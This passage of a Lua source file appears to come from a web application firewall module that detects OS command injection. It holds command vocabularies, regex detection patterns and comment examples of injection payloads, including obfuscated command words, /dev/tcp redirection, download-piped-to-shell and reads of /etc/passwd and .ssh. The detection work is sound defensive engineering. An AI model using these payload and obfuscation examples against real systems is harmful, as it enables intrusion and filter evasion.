-- OS command injection detection from shell structure.
--
-- A command only runs if it stands where a shell reads a command: at the
-- start of the value or a line, after a separator (; | & && || a line
-- end), inside `...`, $(...), <(...). At each such position the word is
-- read the way a shell would after quote removal ("ti''me" is time,
-- "c${X}url" is curl, "/usr/bin/perl" is perl, "dir+c:" is dir, cmd.exe's
-- "^" escapes) and looked up in the vocabulary of Unix and Windows
-- commands. Words that are also English ("time", "more", "find") need
-- shell-looking arguments.
--
-- What decides is what stands before the command (scan_commands): an
-- injection ends the application's own argument first. After a separator
-- with nothing before it (";id"), one argument-like token ("127.0.0.1;
-- sleep 5", "a);") or a quote the value leaves open, a command is injected
-- (rce-command, critical). A command line with no breakout before it
-- ("ls -la | grep config", "sudo apt-get install jq") reads the same
-- whether a human wrote it in a note or it is passed to a shell, so it is
-- a warning (rce-command-line, score 3: it needs a second hit; critical at
-- paranoia 2, rce-command-start), unless it carries what no example does:
-- an obfuscated or wrapped command word (w'h'o'am'i, time ifconfig), a
-- separator that ends the value ("id;"), a ";" glued to both commands.
-- Markdown code spans and fences are text; a backtick span that is the
-- whole value or glued to a word is a substitution.
--
-- Shell-only syntax is a hit wherever it appears: command substitution,
-- process substitution, here-strings, /dev/tcp redirections, glob-
-- obfuscated paths (/e[t]c/pa??wd), brace expansion, shellshock "() {",
-- alias definitions, Windows FOR/IF batch syntax, PowerShell cmdlets.
-- Windows %ENV% variables and absolute bin/ paths are warnings: in a
-- path written as a value they are data.

local ffi = require "ffi"
local re_find = require("edge.waf.re").find
local re_match = require("edge.waf.re").match
local rules = require "edge.waf.rules"
local waf_match = require "edge.waf.match"

-- A line break that starts a command after blanks: the last of a run of
-- line breaks (the next line is not blank). "\n\s*name" tried from each
-- of thousands of breaks scanned the rest of the run from each; what an
-- earlier break matches through the blank lines, the last one matches.
local LAST_BREAK = [=[\n(?![ \t]*\r?\n)]=]

local byte = string.byte
local sub = string.sub
local find = string.find
local gsub = string.gsub
local match = string.match
local gmatch = string.gmatch
local lower = string.lower
local ipairs = ipairs


local _M = { _VERSION = "0.1" }

_M.RULES = {
    { id = "rce-command", severity = "critical", pl = 1,
      desc = "a known command injected: after a separator, inside `...` or $(...)" },
    { id = "rce-command-line", severity = "warning", pl = 1,
      desc = "the value or a line of it is a command line (no breakout before it)" },
    { id = "rce-command-start", severity = "critical", pl = 2,
      desc = "the value or a line of it is a command line (no breakout before it)" },
    { id = "rce-substitution", severity = "critical", pl = 1,
      desc = "command or process substitution: $(...), `...`, <(...)" },
    { id = "rce-argument", severity = "critical", pl = 1,
      desc = "an option with a path or a URL beside a URL or an e-mail address that a "
             .. "program takes as its argument (curl -o, sendmail -X)" },
    { id = "rce-shell-syntax", severity = "critical", pl = 1,
      desc = "shell-only syntax: here-strings, /dev/tcp, &> redirection, "
             .. "sh -c, ${IFS}, shellshock; TeX's shell escape (\\write18{...})" },
    { id = "rce-glob", severity = "critical", pl = 1,
      desc = "glob or brace expansion hiding a path or command" },
    { id = "rce-path", severity = "critical", pl = 1,
      desc = "a known command by a relative bin/ path (bin/sh, sbin/visudo)" },
    { id = "rce-bin-path", severity = "warning", pl = 1,
      desc = "an absolute bin/ path run as a command (/bin/ls -al; a path alone is data)" },
    { id = "rce-windows", severity = "critical", pl = 1,
      desc = "cmd.exe batch syntax, PowerShell, LOLBins" },
    { id = "rce-windows-env", severity = "warning", pl = 1,
      desc = "a Windows %ENV% variable (in a path it is data; with a command, a second hit)" },
    { id = "rce-option-command", severity = "critical", pl = 1,
      desc = "an option that makes a program run a command (find -exec ... \\;, "
          .. "ssh -oProxyCommand=, tar --checkpoint-action=exec, --use-compress-program, "
          .. "git --upload-pack, rsync -e sh; a script from /tmp or uploads; a recursive "
          .. "option aimed at the root, -rf /)" },
}


local function set(text)
    local t = {}
    for w in gmatch(text, "%S+") do
        t[w] = true
    end
    return t
end

-- Commands whose names are not English words.
local STRONG = set([[
    ls whoami ifconfig ipconfig uname chmod chown chgrp wget curl nc ncat
    netcat bash zsh ksh csh tcsh dash sh ash busybox nslookup netstat telnetd
    traceroute tracert tcpdump crontab iptables useradd usermod userdel
    passwd sudo sudoedit gcc g++ cc c89 c99 clang nohup strace ltrace gdb
    xxd hexdump base64 base32 gunzip gzip zcat bzcat xzcat unxz xz zstd
    zstdcat bzip2 bunzip2 bsdtar lz4 7z 7za unzip cpulimit lastlog
    lastlogin htop visudo cscli printenv pwd grep egrep fgrep zgrep tac nl
    od chroot ulimit umask killall pkill systemctl journalctl dmesg lsof ps
    ping6 arp whois uptime hostname ldd objdump readelf readlink realpath
    whereis updatedb umount fdisk mkfs apt apt-get yum dnf rpm dpkg pip
    pip3 npm npx gem cargo docker kubectl helm svn lynx elinks w3m aria2c
    tftp ftp sftp scp ssh rsync socat mkfifo mknod telnet openssl gpg irb
    jrunscript jjs tclsh luajit nodejs deno osascript awk gawk mawk nawk
    sed xargs perf flock rmt rmt-tar rmt-dump renice ionice taskset setsid
    unshare nsenter capsh chattr lsattr getfacl setfacl shred uniq wc csplit
    unexpand vim nvim nano emacs pico cpio unrar sqlcmd mysql psql sqlite3
    mongo redis-cli msfconsole msfvenom nmap masscan hashcat
    sqlmap nikto aptitude apt-cache ansible ansible-playbook ansible-galaxy ansible-doc
    ansible-pull ansible-config ansible-console ansible-inventory
    ansible-vault chef-client chef-shell chef-vault chef-run chef-solo
    salt-call terraform certutil bitsadmin mshta rundll32
    regsvr32 wscript cscript msiexec wmic powershell pwsh cmd cmd.exe
    tasklist taskkill systeminfo netsh regedit reg.exe schtasks icacls
    cacls takeown vssadmin wevtutil bcdedit bcdboot diskpart format.com
    iwr iex iwmi whoami.exe net.exe sc.exe getent id ip ss lsmod modprobe
    insmod rmmod sysctl chpasswd newgrp pgrep pidof nproc lscpu lsblk
    blkid findmnt mount.cifs smbclient rpcclient ldapsearch kinit waitfor
    aa-disable aa-enforce aa-complain aa-status aa-exec usleep findstr
    nbtstat nltest dsquery qwinsta quser cmdkey runas forfiles mklink getmac
    pathping driverquery xterm xhost lp lpr lpq lpstat
    ]])

-- The modifier keys a key chord names after "Cmd+".
local CHORD_KEYS = set([[shift alt option opt ctrl control fn]])

-- Commands whose names also start English sentences: at the start of a
-- value they need shell-looking arguments. (rpm is a unit too: a
-- machine's speed, a sheet's column "press;rpm;bar")
local PROSE = set([[
    curl apt gem pip id ip cc nl od ss tac yum su sed ps perf flock helm
    cargo lynx nano pico bash dash ash sh uptime hostname mysql mongo
    terraform cmd nc clang uniq tee pwd lp rpm
    ]])

-- Of those, the ones that print what a probe wants run alone, with no
-- argument (the others print their usage then)
local PROBE_ALONE = set([[id uptime hostname pwd ps ss]])

-- Of those, the editors and screen monitors: they run only with a
-- terminal to draw on.
local INTERACTIVE = set([[vim nvim nano emacs pico htop]])

-- Of those, the programs whose arguments are files (a compiler, a
-- filter): in text, a bare word after the name is no file ("& cc my
-- accountant", "cc" a mail's copy), no command line. The shells whose
-- names are English words are among them: their argument is a script's
-- file ("; dash home", "| ash trees |" in a table's row).
local FILE_ARGS = set([[cc gcc clang tac nl od uniq nano pico lp lpr ash dash]])

-- Of those, the tools whose first word is a subcommand of their own: a
-- word after the name that is none of them is prose ("cargo wet;
-- surveyor booked", "pip the post"), no command line; and after any
-- separator, a tool that rejects it and runs nothing ("; IP allow-list
-- 203.0.113.7/32": ip knows no object "allow-list").
local TOOL_SUBCOMMANDS = {
    cargo = set([[build run test check install uninstall new init add remove publish update
        fetch clean doc bench tree search login fmt clippy metadata vendor rustc]]),
    apt = set([[install remove purge update upgrade full-upgrade search show list
        autoremove source download]]),
    yum = set([[install remove erase update upgrade search info list makecache clean]]),
    gem = set([[install uninstall update list build push fetch sources]]),
    pip = set([[install uninstall download freeze list show wheel config cache]]),
    npm = set([[install i ci run run-script test t start stop restart publish pack link ln
        uninstall un rm remove update up outdated audit init exec x view info ls list
        config cache dist-tag deprecate version login logout whoami rebuild prune dedupe
        owner access token unpublish explain why query pkg set get doctor fund]]),
    yarn = set([[add install remove upgrade up run build test why dlx exec info init
        publish pack link unlink config cache global workspace workspaces set]]),
    pnpm = set([[install i add remove rm update up run exec dlx test publish pack link
        store why list ls audit outdated prune rebuild import]]),
    composer = set([[install require remove update dump-autoload dumpautoload
        create-project run-script run exec show outdated validate config global]]),
    helm = set([[install upgrade uninstall repo template list get pull push rollback]]),
    terraform = set([[init plan apply destroy import output state validate fmt
        workspace console]]),
    perf = set([[record report stat top trace script]]),
    -- (iproute2's objects: "ip allow-list" is no command line)
    ip = set([[address addr a link l route r neighbour neighbor neigh n rule ru maddress
        maddr tunnel tun tuntap xfrm netns monitor mroute token ntable netconf vrf
        mptcp nexthop stats]]),
}

-- Interactive clients, whose prompt is their name and ">".
local REPL = set([[
    mysql mariadb psql sqlite sqlite3 mongo mongosh redis-cli ftp sftp irb
    python python3 node lua sqlcmd bc gdb jshell
    ]])

-- Commands that do nothing without an operand ("sleep" alone is a usage
-- error, not a delay): bare after a separator, they run nothing.
local NEEDS_OPERAND = set([[
    sleep ping kill touch mkdir rmdir rm mv cp ln unlink truncate rename
    ren del erase copy move
    ]])

-- Commands distinctive enough to be a hit as a whole value.
local LONE = set([[
    whoami ifconfig ipconfig netstat systeminfo uname nslookup tasklist
    ]])

-- Interpreters: a hit after a separator, at the start only with
-- interpreter-looking arguments (-c, -e, a script path).
local INTERPRETERS = set([[
    python python2 python3 perl ruby php node lua java jshell tclsh expect
    pwsh powershell
    ]])

-- Commands that are also English words: need shell-like arguments.
-- (not yes: it prints its argument, "y" by default, until it is killed,
-- a probe of nothing; the word is a row's or a form's answer, "tent;2;yes",
-- and what it feeds through a pipe is read as a command of its own)
local WEAK = set([[
    time more find sort head tail cut join split touch kill less look wait
    write last who watch date file make type copy move print set test
    ping top man dir echo read shift exit sleep nice open tar ed ex vi at
    bc dc pr w env cat host dig git su route mail rev fold comm bridge
    column which install tr paste expand fmt mount cd rm mv cp ln mkdir
    rmdir df du free stat strings tee truncate dd unlink locate help
    logger batch alias export unset source eval exec trap command builtin
    del erase ren rename attrib xcopy robocopy start call shutdown reboot
    halt poweroff init service systeminfo net sc query true false ver vol
    tree assoc reg choice
    ]])

-- Windows built-ins whose first argument is a subcommand of their own:
-- that subcommand is as shell-looking as an option ("| net user").
local SUBCOMMANDS = {
    net = set([[
        user users localgroup group share view use session accounts config
        start stop statistics time file
        ]]),
    sc = set([[query queryex qc config create delete start stop qdescription]]),
    reg = set([[
        query add delete copy save restore load unload compare export import flags
        ]]),
    query = set([[user session process termserver]]),
    route = set([[print add delete change]]),
}
-- Built-ins that are English verbs with English subcommands ("query user
-- records", "route print jobs"): the subcommand counts only when the
-- line goes on as a command line (the end, a separator, an option, a
-- number, a path or a pattern), not with a word.
local SUBCOMMAND_WORDY = set([[query route]])


-- Words that only prefix the real command.
local PREFIX = set([[
    sudo nohup time env exec command builtin xargs nice timeout strace
    ltrace busybox doas stdbuf unbuffer chronic setsid then do else
    ]])

-- (a "$" before an amount, "$1,480" or "$420", is money: a positional
-- parameter is one digit)
-- (a quote that opens an argument; but a term quoted in a sentence, one
-- to a few words then words of text after its close, "set 'es' as
-- primary", is the sentence's)
-- (a signed quantity with its unit, "vol -6 dB", "gain -3.5%", is a
-- level, no option)
-- ("~" before a digit is "about", no home: "; expect ~30 days")
local RE_SHELL_ARG = [=[^\s+(?:-{1,2}(?:[a-z]|\d(?![\d.,]*\s*]=]
    .. [=[(?:(?:db|dbfs|lufs|hz|khz|ms|px|pt|ev)\b|%|°)))]=]
    .. [=[|/|~(?!\d)|\.{1,2}/|[<>|&;]|\$(?!\d+[.,]\d|\d{2})|`]=]
    .. [=[|(['"])(?![^'"\n;|&<>$`\\]{1,40}\1\s+[a-z][a-z']*(?:[\s,.;:!?]|$))]=]
    .. [=[|[\w-]+\.[a-z]{2,}]=]
    -- a dot file (cat .env, source .bashrc)
    .. [=[|\.[a-z_][\w.-]*(?:\s|$|/)]=]
    .. [=[|\d+\.\d+\.\d+\.\d+|\*|[\w-]+=|[a-z]:(?:[\\/"'|&;]|\s|$)|%\w+%]=]
    -- (or a "+" option, dig's "+short")
    .. [=[|\+[a-z]{2,}\b)]=]
-- (after a token: a word, then a redirection of the output to an
-- absolute or a home path, "x; echo PWNED > /srv/app/static/a.txt": the
-- command writes that file)
local RE_REDIRECT_ARG = [=[^\s+[^\s;|&<>`]+[^;|&\n<>`]{0,60}?\s>>?\s*[/~]]=]
-- at the start of a value a weak name needs an option or a path after it
local RE_START_ARG = [=[^\s+(?:[-/~]|[a-z]:(?:[\\/]|\s|$)|%\w+%)]=]
-- after one token and a separator (127.0.0.1;sleep 10): a number will do
-- (or one in hex, "0x0a": GNU sleep reads its operand with strtod, which
-- takes hex; so do the programs whose numbers strtol reads with base 0)
local RE_NUMBER_ARG = [=[^\s+(?:\d+(?:\.\d+)*|0x[\da-f]+)(?:\s|$|[;|&`)'"])]=]
-- a version, then words or the end (edge of command_at's AT_PROSE)
-- (or a chapter and verse, a range of them, a list: "& Ps 104:24-34,
-- 35b - ...")
local VERSE = [=[\d+(?:(?:[.:-]|\xe2\x80\x93)\d+[a-z]?){0,3}]=]
local RE_VERSION_WORDS = [=[^\s+v?]=] .. VERSE .. [=[(?:,\s*]=] .. VERSE .. [=[){0,4}[,.;:!?)]*]=]
    .. [=[(?:\s+(?:-|\xe2\x80[\x93\x94]))?]=]
    .. [=[(?:\s+[a-z][a-z']*(?=[\s,.;:!?)]|$)|\s*$)]=]
-- An interpreter given a program text on its command line (perl -e
-- '...', python -c "...", php -r, node -e/-p, ruby -e, lua -e): it runs
-- whatever the text says, as sh -c does; the flag that takes the text,
-- glued to others or after options of its own ("-ne", "-rsocket -e").
local INLINE_FLAG = {
    perl = "e", ruby = "e", lua = "e", luajit = "e", php = "r", node = "[ep]",
    nodejs = "[ep]", python = "c", python2 = "c", python3 = "c",
}
local RE_INLINE_CODE = {}
for name, flag in pairs(INLINE_FLAG) do
    RE_INLINE_CODE[name] = [=[^\s+(?:-{1,2}[a-z][\w=.-]*\s+)*-[a-z]*]=] .. flag .. [=[\s*["']]=]
end
-- ("~" before a digit is "about": "expect ~30 days")
local RE_INTERP_ARG = [=[^\s+(?:-{1,2}[a-z]|/|~(?!\d)|\.{1,2}/|["']]=]
    .. [=[|[\w./-]+\.(?:py|pl|rb|php|js|lua|sh|ps1)\b)]=]


-- An absolute path (or one relative to ".") whose first directory is a
-- glob the shell expands to one of the OS's own ("/e*c/passwd",
-- "/e?c/shadow", "/b[i]n/sh" is the bracket rule's): the glob hides the
-- directory a filter looks for. The directory names are the top of the
-- file system hierarchy, not payloads; a glob with no letter ("/*/") is
-- a comment's or matches anything, and one lower down ("/usr/*/bin",
-- "/var/log/*.log") is a usage line's.
local GLOB_ROOTS = { "etc", "proc", "sys", "dev", "root", "boot", "bin", "sbin",
                     "usr", "var", "home", "windows", "winnt" }
local function glob_root(s)
    -- (relative to "." the same: "./e*c/passwd" from a working directory
    -- of "/")
    s = gsub(" " .. s, "([%s;|&=<>'\"(`])%./", "%1/")
    for seg in gmatch(s, "[%s;|&=<>'\"(`]/([%w%._%-%*%?]+)/") do
        if find(seg, "[%*%?]") and find(seg, "%a") then
            local pat = "^" .. gsub(gsub(gsub(seg, "[%.%-]", "%%%0"), "%*", ".*"),
                                    "%?", ".") .. "$"
            for i = 1, #GLOB_ROOTS do
                if find(GLOB_ROOTS[i], pat) then
                    return true
                end
            end
        end
    end
    return false
end


-- PowerShell's approved verbs with their "-", as cmdlets are written (the
-- needles of the cmdlet record below: a value with a "-" alone, a date,
-- a phone number, a UUID, is not read for one).
local POWERSHELL_VERBS = {}
for verb in gmatch([[Get Set New Remove Start Stop Invoke Out Write Read Add Clear Copy Move
        Rename Test Import Export Select Wait Enter Restart Resume Suspend Enable Disable
        Register Unregister Update Install Uninstall Measure Compare Send Receive Connect
        Format ConvertTo ConvertFrom Resolve Find Save Show Reset Request]], "%a+") do
    POWERSHELL_VERBS[#POWERSHELL_VERBS + 1] = verb .. "-"
end
local POWERSHELL_ALT = table.concat(POWERSHELL_VERBS, "|")


-- A PowerShell command line from the value's first byte: a cmdlet (or a
-- variable given one, "$svc = Get-Service ...") with a parameter, a
-- pipe or the value's end after it ("Get-ChildItem -Path D:\\builds |
-- Sort-Object Length", "Get-Process | Where-Object CPU -gt 9"). Written
-- for a reader, as a shell's command line at the start is (scan_commands): the
-- cmdlets its own pipes and ";" run are its own. Cradles and policy
-- changes (Invoke-Expression, DownloadString, -EncodedCommand,
-- Start-Process, Set-ExecutionPolicy) are refused wherever they stand.
local RE_CMDLET_LINE = [=[^\s*(?:\$[A-Za-z_][\w:]*\s*=\s*)?(?:]=] .. POWERSHELL_ALT
    .. [=[)[A-Z][A-Za-z]+(?:\s+(?:-[A-Za-z]|\||[\w$"'.\\])|\s*\||\s*$)]=]

local function not_cmdlet_line(_, v)
    return not re_find(v.dec, RE_CMDLET_LINE, "jo")
end
-- Shell-only syntax, one record per construct (edge.waf.rules), in order;
-- on v.low, behind the detector's GATE.
local SH = "rce-shell-syntax"
local WIN = "rce-windows"
local brace_command      -- (below: it reads words as command_at does)
local here_string        -- (below: the vocabulary's command before "<<<")
local shell_rejects      -- (below: the shell's grammar after a command)
local known              -- (below: a name of the command vocabulary)

-- A substitution the shell can parse: one match of the pattern at a "$(",
-- "<(" or ">(" whose text the shell does not reject (what $(...) holds is
-- parsed with its line, in double quotes too: "$(b&u%v:aeh)2%^(4" in a
-- random token parses, "$(k;x(b)" does not, and its line runs nothing).
-- What a substitution runs first is a program: a path ("/tmp/x",
-- "./x", "~/x"), a word the shell builds (quotes, "$", "\\", a nested
-- substitution), or a name of two or more letters, digits and . _ + -
-- ended where a word ends that is a program: one of the vocabulary's,
-- one of SUBSTITUTED, or any name given an option or a path ("$(mytool
-- -x", "$(x /etc"). A name no system has runs nothing ("command not
-- found"): "$(wa9lnalm.dl)" and "$(m_wj h!wfn)" of a random token, where
-- "$(b&u..." and "$(k/7..." are not even names.
local SUBSTITUTED = set([[
    printf expr seq basename dirname lwp-download lwp-request fetch
    uuencode uudecode jq xmllint zip
    ]])

local function program_name(text, i)
    local _, e = find(text, "^[ \t]*", i)
    i = e + 1
    local c = byte(text, i)
    if c == 47 or c == 126 or c == 36 or c == 39 or c == 34 or c == 92 or c == 96
            or c == 40 or (c == 46 and byte(text, i + 1) == 47) then
        return true
    end
    local _, z = find(text, "^[a-z][%w._+-]+", i)
    if not z then
        return false
    end
    c = byte(text, z + 1)
    if not (c == nil or c == 32 or c == 9 or c == 41 or c == 59 or c == 124
            or c == 38 or c == 60 or c == 62 or c == 10 or c == 13) then
        return false
    end
    local name = sub(text, i, z)
    return known(name) or PREFIX[name] or SUBSTITUTED[name]
        or find(text, "^[ \t]+%-%-?%w", z + 1) ~= nil
        or find(text, "^[ \t]+%.?%.?[/~]", z + 1) ~= nil
end

-- "$(date +%F)", "$(date -u '+%Y-%m-%d %H:%M')": date given only a format
-- (and the options that choose the clock or the day: -u, -d '1 day ago',
-- -I) prints a time stamp; the file name a script's backup or log builds
-- from it is no probe. (On v.low, where a "+" may have become a space:
-- an unquoted format needs a "%". date -f FILE and -r FILE read a file,
-- and anything chained after the format runs: still commands.)
-- So is a version stamp: "$(git rev-parse --short HEAD)", "$(git describe
-- --tags --always)" print a commit's name (options and refs only); and
-- "$(pwd)" prints the directory the script runs in ("docker run -v
-- $(pwd):/app ...").
-- (every run possessive: a value of thousands of options fails in one
-- pass, never by backtracking through them)
local RE_TIME_STAMP = [=[\s*+(?:date(?:\s++(?:-u|--utc|--universal|-i\w*+|--iso-8601(?:=\w++)?]=]
    .. [=[|(?:-d|--date=?)\s*+(?:'[^'$`\\]*+'|"[^"$`\\]*+")))*+]=]
    .. [=[\s++(?:\+?[\w:.,/\\-]*+%[\w%:.,/\\-]*+|'\+?[^'$`\\]*+'|"\+?[^"$`\\]*+")]=]
    .. [=[|git\s++(?:rev-parse|describe)(?:\s++[\w./^~@{}=-]++)*+|pwd(?:\s++-[lp])?)\s*\)]=]

local function time_stamp(text, from)
    return (find(text, "date", from, true) ~= nil or find(text, "git", from, true) ~= nil
            or find(text, "pwd", from, true) ~= nil)
        and re_find(text, RE_TIME_STAMP, "joa", { pos = from }) ~= nil
end

local function parsed_substitution(text, opener, pattern)
    local at = find(text, opener, 1)
    for _ = 1, 32 do
        if not at then
            return false
        end
        -- (from the byte after the "(": the opener is open there)
        local from = at + 2
        -- "$((7 % 3))" is arithmetic expansion, no command: names,
        -- numbers, operators and groups up to "))" (a subshell in a
        -- substitution is written "$( (" ; "$((a[$(id)]))" runs one)
        local arithmetic = byte(text, at) == 36 and byte(text, from) == 40
            and find(text, "^%(%([%w_%s+%-*/%%<>=!&|^~?:,.()]*%)%)", at + 1) ~= nil
        if not arithmetic and re_find(text, pattern, "joa", { pos = at })
                and program_name(text, from)
                and not (byte(text, at) == 36 and time_stamp(text, from))
                and not shell_rejects(text, from, from, #text, at, 10, true) then
            return true
        end
        at = find(text, opener, at + 1)
    end
    return false
end

local RE_DOLLAR_PAREN = [=[\$\((?![^()]*\)\s*\.\s*[a-z_$][\w$]*\s*\()(?!\s*[\d.]+\s*\))]=]
    .. [=[(?!\s*[a-z_]\w*\s*\))\s*[\w/.$(`'"\\-]]=]
local RE_PROCESS = [=[[<>]\(\s*[\w/.$'"-]]=]

-- "-exec" (or "-ok") outside a transcript's lines: a --help text's or a
-- README's example after a shell prompt, among other lines ("examples:\n
-- $ find . -name '*.gif' -exec tool -q {} +"), runs nothing: in a shell
-- the line's command is the prompt's "$", and as one argument list the
-- other lines' words make find refuse its options before it runs any.
local function sed_exec(text)
    local w = match(text, "^%s*[^\n]-[%d$]e%s+([%a][%w._+-]*)")
    return w ~= nil and known(w) and true or false
end


local function exec_outside_transcript(text)
    if not find(text, "\n", 1, true) then
        return true
    end
    for line in gmatch(text, "[^\n]+") do
        if (find(line, "-exec", 1, true) or find(line, "-ok", 1, true))
                and not find(line, "^%s*%$%s") then
            return true
        end
    end
    return false
end


-- A database client's shell escape runs w: a path, or a command's name.
local function escape_runs(w)
    return w ~= nil and (find(w, "/", 1, true) ~= nil or known(w))
end
-- A variable given a value at a command's place, then run as the next
-- command: "k=uname; $k -a" hides the name from the command reader, as
-- quotes spliced into it do; PowerShell's "$k=hostname; $k" runs the
-- command and shows its output, "& $k" calls it. The value is one word
-- (quotes may join it: "$'who''ami'"), and a program's name once its
-- quotes are gone: "a=b; $a is shown" in a manual gives it none, and
-- words a blank parts, "mode=list means x; $mode", are no one value.
-- (the name is the value's first word: an IFS of its own set before,
-- "IFS=,; k=uname,-a; $k", splits the rest off as arguments; inside a
-- substitution too, "$(k=id;$k)")
local RE_ASSIGNED_RUN = [=[(?:^|[;&|\n])\s*\$?([a-z_]\w*)\s*=\s*]=]
    .. [=[((?:[^\s;&|'"]|'[^'\n]{0,80}'|"[^"\n]{0,80}"){1,80})\s*;\s*&?\s*]=]
    .. [=[\$\{?\1\}?(?:[\s;&|)`]|$)]=]
-- ... or the variable's value glued to letters of the word it is
-- expanded in, "v=who; ${v}ami", "v=ami; who$v": the name the shell
-- runs is the word once expanded, spelled by no one piece of the value
local RE_ASSIGNED_GLUED = [=[(?:^|[;&|\n(])\s*\$?([a-z_]\w*)\s*=\s*([a-z0-9._-]{1,24})\s*;\s*]=]
    .. [=[([a-z0-9._-]{0,24})\$(?:\{\1\}([a-z0-9._-]{0,24})|\1(?!\w))]=]
local function glued_command(s)
    local m = re_match(s, RE_ASSIGNED_GLUED, "jo")
    if not m then
        return false
    end
    local before, after = m[3] or "", m[4] or ""
    if before == "" and after == "" then
        return false
    end
    return known(before .. m[2] .. after) and true or false
end
local function assigned_command(s)
    local m = re_match(s, RE_ASSIGNED_RUN, "jo")
    if not m then
        return false
    end
    local w = gsub(gsub(m[2], "%$(['\"])", "%1"), "['\"]", "")
    w = match(match(w, "^[%w._/-]*"), "([^/]*)$")
    return known(w) and true or false
end

-- A program's name spelled with cmd.exe's carets between its letters,
-- "n^e^t^s^t^a^t", wherever it stands: cmd drops each caret and runs the
-- name; no text puts a caret between two letters twice in a word (an
-- exponent has one, "x^2"). Each word with one is read once, at most 16.
local function caret_spelled(s)
    local from = 1
    for _ = 1, 16 do
        local b, e = find(s, "[%w.]*%^[%w.^]*", from)
        if not b then
            return false
        end
        local w = sub(s, b, e)
        local _, carets = gsub(w, "%^", "")
        if carets >= 2 then
            w = gsub(w, "%^", "")
            if known(w) then
                return true
            end
        end
        from = e + 1
    end
    return false
end

-- The host probes and fetchers an option's value runs (rce-option-command:
-- "--exec=uname", "-x 'curl host/p'")
local OPTION_PROBES = [=[id|whoami|uname|hostname|ifconfig|ipconfig|nc|ncat|curl|wget]=]
local SYNTAX = {
    -- (not jQuery's "$(x).ready(...)": a call on what the substitution
    -- gives is a syntax error to a shell, which then runs nothing; nor a
    -- number, "$(5)": no command is a number)
    -- (nor a lone name the command vocabulary does not know, "$(srcdir)",
    -- "$(VERSION)": Make's variables; "$(whoami)" is a command inside,
    -- substitution_commands)
    { id = "rce-substitution", needles = { "$(" }, pattern = RE_DOLLAR_PAREN,
      check = function(text)
          return parsed_substitution(text, "%$%(", RE_DOLLAR_PAREN)
      end },
    { id = "rce-substitution", needles = { "<(", ">(" }, pattern = RE_PROCESS,
      check = function(text)
          return parsed_substitution(text, "[<>]%(", RE_PROCESS)
      end },
    -- ($[...] is arithmetic: names, numbers, operators, parentheses; a
    -- "$[" in a random token is followed by other bytes before its "]";
    -- a "\$" is a literal dollar to the shell, and a regex's: a corpus
    -- query's '[word="\$[0-9]+"]'; a "$" after the "]" closes TeX's
    -- inline math, "$[0,1]$", an interval)
    -- bash's "$(< file)" is "$(cat file)" with no program: the file's
    -- text read into the command line (a path or a variable's, then the
    -- close)
    { id = "rce-substitution", needles = { "$(<", "$( <" },
      pattern = [=[\$\(\s*<\s*(?:~|\.{0,2}/|\$\{?\w)[^\s()<>;|&`]*\s*\)]=] },
    { id = "rce-substitution", needles = { "$[" },
      -- (a lone name, "$[qty]", reads a variable and runs nothing: a
      -- template's placeholder)
      pattern = [=[(?<!\\)\$\[(?![a-z_]\w*\])[\w\s+*/%<>=!&|^~?:(),$-]*\](?!\$)]=] },
    -- ${IFS} and ${SHELL} anywhere; ${PATH}, ${HOME}... cut into pieces or
    -- glued to a word before it or after it (cat${IFS}${HOME}/.ssh,
    -- ${PATH:0:1}, ${HOME}x); a path from it ("${HOME}/bin") is the
    -- directory's, as "$HOME/bin" is, and a default ("${HOME:-/root}")
    -- is the variable's; a code span's ("`${HOME}`") runs a directory;
    -- alone between spaces ("I set ${HOME} in my profile") it expands to
    -- a directory; any other name with an operator glued to a word
    -- ("ca${x:-t}", "${x#a}id"): between spaces it is a value, a manual's
    -- "${VAR:-default}", and so it is between quotes, after "=" or ":"
    -- (a compose file's "${PG_HOST:-db.local}", "PATH=/opt/bin:${PATH}"):
    -- what builds a word is a letter, a digit or a backslash beside it (or
    -- a brace after it, "${x#{}}"); a
    -- "$" or "`" inside ${...} after what a parameter expansion holds (a
    -- name, an operator, a word), not after any byte
    { id = "rce-substitution", needles = { "${" },
      pattern = [=[\$\{(?:ifs|shell|(?:path|home|pwd|user)]=]
        .. [=[(?:\s*(?::(?![-=?+])|[#%^,@/])|\}(?=[^\s.,;!?)/"'`])))]=]
        .. [=[|(?<=[\w\\])\$\{[a-z_]+\s*(?:[#%^,@]|:[-=?+]|/)]=]
        .. [=[|\$\{[a-z_]+\s*(?:[#%^,@]|:[-=?+]|/)[^}\s]*\}(?=[\w\\}])]=]
        .. [=[|(?<=[\w\\])\$\{(?:path|home|pwd|user)\}]=]
        .. [=[|\$\{[\w:#%/^,@!*?+=.\s-]*[`$]|\$\{\s*`]=] },
    -- a here-string feeds a word to the command before it ("bash<<<$(curl
    -- ...)", "sh <<< 'id'", "/bin/cat<<<x"); "<<<" after a word no system
    -- runs, or after nothing, is a chat's arrow ("IMPORTANT <<< read
    -- this", "<<< scroll up")
    { id = SH, needles = { "<<<" },
      pattern = [=[<<<]=], check = function(s) return here_string(s) end },
    { id = SH, needles = { "/dev/" },
      pattern = [=[/dev/(?:tcp|udp)/]=] },
    -- (bash's "&>" to a path; a descriptor's duplication, "2>&1", ends
    -- every other command line in a manual, and no attack in any corpus
    -- we replay relies on it: a reverse shell's ">& /dev/tcp/" is read
    -- by its /dev/tcp)
    { id = SH, needles = { ">" },
      pattern = [=[&\s*>\s*/]=] },
    -- (a download piped to a shell; "curl | sh" with no URL fetches
    -- nothing, the install pattern's name in a sentence)
    { id = SH, needles = { "|" },
      pattern = [=[(?<!curl )(?<!wget )(?<!curl)(?<!wget)]=]
        .. [=[(?:\|\s*(?:sh|bash|zsh|ksh|dash)\b]=]
        .. [=[|\|\s*(?:python\d?|perl|ruby|php|node)\s*(?:$|[;&|)]|-[ce]?(?:\s|$)))]=] },
    -- (given its command: "`sh -c` on Unix" ends a code span, and the
    -- value's end gives it nothing)
    { id = SH, needles = { "sh -", "box -" },
      pattern = [=[\b(?:sh|bash|zsh|ksh|dash|ash|busybox)\s+-[a-z]*[ci]\b(?!`|\s*$)]=] },
    { id = SH, needles = { "ifs" },
      pattern = [=[\$\{?ifs\b]=] },
    -- (or a variable of its own given a blank, then glued inside a word,
    -- "Q=$'\t';ls${Q}/root": the blank IFS would have been, the word
    -- split in two; a script's "IFS=$'\n\t'" sets IFS itself; the escape
    -- as written or decoded)
    { id = SH, needles = { "=$'" },
      pattern = [=[\b([a-z_]\w*)=\$'(?:\\(?:x20|x09|t|040|011)|[ \t])'[^\n]{0,200}?]=]
          .. [=[[\w/]\$\{?\1\b]=] },
    -- (or a variable given a command's name, then run: RE_ASSIGNED_RUN)
    -- (or a program's name cmd.exe's carets spell: caret_spelled)
